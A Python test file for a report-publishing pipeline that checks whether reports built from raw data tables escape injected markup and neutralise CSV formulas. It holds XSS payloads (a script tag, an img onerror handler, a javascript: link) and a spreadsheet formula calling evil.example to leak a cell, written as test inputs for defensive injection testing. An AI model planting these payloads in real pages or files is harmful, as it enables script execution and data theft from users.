"""Reports are safe to share: text from the raw data is escaped, and no machine paths or tracebacks reach the HTML."""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from analysis.clean import pipeline
from analysis.core.dictionary import RAW, Table
from analysis.paths import RAW_DIR, SOURCES_DIR
from analysis.publish import driver
from analysis.publish.config import expand

ROOT = Path(__file__).resolve().parents[1]
# Markup a transcriber could paste with a name: a script, an image whose error handler runs, a Markdown link to
# javascript:. Each carries a marker ('poison-') that no report's own code contains.
POISON_SCRIPT = '<script>alert("poison-1")</script>'
POISON = f'{POISON_SCRIPT} & <img src=x onerror="alert(\'poison-2\')"> [more](javascript:alert("poison-3"))'
MARKER = "poison-"
# A title that a spreadsheet would run as a formula (OWASP CSV injection) if the report's CSV download kept it as is
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
FORMULA_PROJECT = "katowice-wlacz-sie"
PROFILED = "knurow-cwis"
REPORTS = ("overview", "comparisons", "pl/comparisons", f"projects/{PROFILED}", f"pl/projects/{PROFILED}")
CHROMIUM = shutil.which("chromium")


def poisoned_columns(table: Table) -> list[str]:
    """The raw columns that may hold any text, by the data dictionary: every column of dtype ``str`` without a
    pattern or a list of allowed values (ids, codes, dates, percentages and vocabularies cannot hold markup: the
    schema rejects it) and not bound to other text (``bound_to``: quotes must occur in their document, a figure
    as printed in its quote, aliases and check names must match other tables)."""
    return [c.name for c in table.columns if c.free_text]


def poison_raw(raw: Path) -> dict[str, list[str]]:
    """Append POISON to every non-empty cell of every free-text column of every raw table (a column empty in every
    row gets it in its first row); returns the columns poisoned by table."""
    done = {}
    for name, table in RAW.items():
        path = raw / name
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        columns = poisoned_columns(table)
        for column in columns:
            k = rows[0].index(column)
            filled = [r for r in rows[1:] if r[k]] or rows[1:2]
            for r in filled:
                r[k] = f"{r[k]} {POISON}".strip()
        buf = io.StringIO(newline="")
        csv.writer(buf, lineterminator="\n").writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
        done[name] = columns if len(rows) > 1 else []
    return done


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    """Reports built by `make data` and the build from raw tables whose every free-text cell holds markup (the
    comparisons, where every programme's name is shown, and a project's profile, in both languages; the overview
    and the index), and from processed data where one project's title is a spreadsheet formula (the raw tables
    reject such a cell)."""
    base = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "notebooks", base / "notebooks")
    raw, processed = base / "data" / "raw", base / "data" / "processed"
    shutil.copytree(RAW_DIR, raw)
    shutil.copytree(SOURCES_DIR, base / "data" / "sources")
    poisoned = poison_raw(raw)
    assert pipeline.main(["--raw", str(raw), "--out", str(processed)]) == 0, "make data refused the poisoned tables"
    projects = pd.read_csv(processed / "projects.csv", dtype=str, keep_default_na=False)
    for col in ("title", "title_en"):
        projects.loc[projects["project_id"] == FORMULA_PROJECT, col] = FORMULA
    projects.to_csv(processed / "projects.csv", index=False, lineterminator="\n")
    out = base / "reports"
    specs = expand(base / "notebooks" / "reports.yml", processed / "projects.csv", reports_dir=out)
    chosen = [s for s in specs if s.name in REPORTS]
    assert sorted(s.name for s in chosen) == sorted(REPORTS)
    result = driver.build(chosen, reports_dir=out, processed_dir=processed, raw_dir=raw, jobs=1,
                          progress=False)  # and the index
    assert not result.failed, result.failed
    return out, [s.output for s in chosen] + [out / "index.html"], poisoned


class _Page(HTMLParser):
    """What a browser would run (scripts, event handlers, javascript: links holding the marker) and what it would
    show as text, of one HTML page; and its data: links (the downloads)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []
        self.data_links: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and MARKER in value:
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and (
                    value.strip().lower().startswith("javascript:")):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name == "href" and value.startswith("data:"):
                self.data_links.append(value)
        if tag == "img" and dict(attrs).get("src") == "x":
            self.live.append("<img src=x>")
        self._script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and MARKER in data:
            self.live.append(f"<script>{data}</script>")
        elif not self._script:
            self.text.append(data)


def _read_page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def test_poisoned_columns_follow_the_dictionary():
    """Free text is decided per column by the dictionary; the columns it rules out are the constrained ones."""
    figures = poisoned_columns(RAW["figures.csv"])
    assert {"item", "item_en", "note"} <= set(figures)
    assert not {"quote", "value_as_printed", "figure_id", "measure", "unit"} & set(figures)
    assert {"name_en", "name_pl", "rule_source"} <= set(poisoned_columns(RAW["programmes.csv"]))
    assert "max_eu_share" not in poisoned_columns(RAW["programmes.csv"])


@pytest.mark.slow
def test_markup_from_the_data_is_escaped_in_every_report(hostile_reports):
    """Markup in every free-text column of every raw table (the data dictionary's, so a table or column added later
    is covered) reaches no report as live markup: no script, event handler or javascript: link, in the text, the
    tables, the alt texts of the charts or anywhere else of the HTML; it shows as the text it is; and the
    downloads are CSV (never HTML a browser would run) holding the text as data."""
    out, pages, poisoned = hostile_reports
    assert poisoned["programmes.csv"] and poisoned["projects.csv"] and poisoned["figures.csv"]
    downloads = []
    for path in pages:
        page = _read_page(path)
        assert not page.live, f"{path.relative_to(out)}: live markup {page.live}"
        assert POISON_SCRIPT in "".join(page.text), f"{path.relative_to(out)}: no poisoned text is shown"
        for link in page.data_links:
            kind, _, payload = link.partition(",")
            assert kind.startswith("data:text/csv;"), f"{path.relative_to(out)}: a download of type {kind}"
            downloads.append(base64.b64decode(payload).decode("utf-8-sig"))
    cells = [cell for text in downloads for sep in (",", ";") for row in csv.reader(io.StringIO(text, newline=""),
                                                                                      delimiter=sep) for cell in row]
    assert any(POISON in c for c in cells), "the poisoned text is in no download as data"
    comparisons = "".join(_read_page(out / "comparisons.html").text)
    assert f"{POISON_SCRIPT}" in comparisons


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed: the page is not opened")
def test_markup_shows_as_text_in_the_browser(hostile_reports):
    from playwright.sync_api import sync_playwright

    out, pages, _ = hostile_reports
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu",
                                                                   "--disable-background-networking"])
        for page_path in pages:
            page = browser.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d, seen=dialogs: (seen.append(d.message), d.dismiss()))
            page.goto(page_path.as_uri(), wait_until="load")
            assert not dialogs, f"{page_path.name}: script ran {dialogs}"
            assert POISON_SCRIPT in page.inner_text("body"), page_path.name
            assert page.locator("img[src='x']").count() == 0
            page.close()
        browser.close()


@pytest.mark.slow
def test_reports_hold_no_machine_paths_tracebacks_or_environment(hostile_reports):
    out, pages, _ = hostile_reports
    leaks = re.compile(r"(/work/|/root/|/home/|/tmp/|site-packages|\.venv|Traceback \(most recent call last\)|"
                       r"PYTHONPATH|VIRTUAL_ENV)")
    for page in pages:
        found = leaks.search(page.read_text(encoding="utf-8"))
        assert not found, f"{page.name}: {found.group(0)!r}"


@pytest.mark.slow
def test_csv_downloads_hold_no_formula_a_spreadsheet_would_run(hostile_reports):
    """The key table's CSV (a data: link in the page) prefixes the formula title with a quote (OWASP)."""
    out, pages, _ = hostile_reports
    links = re.compile(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"')
    tables = [base64.b64decode(m).decode("utf-8-sig") for page in pages
              for m in links.findall(page.read_text(encoding="utf-8"))]
    assert tables, "no CSV download in the reports"
    cells = [cell for text in tables for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + FORMULA in cells, "the formula title is not in any download (so this test would prove nothing)"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
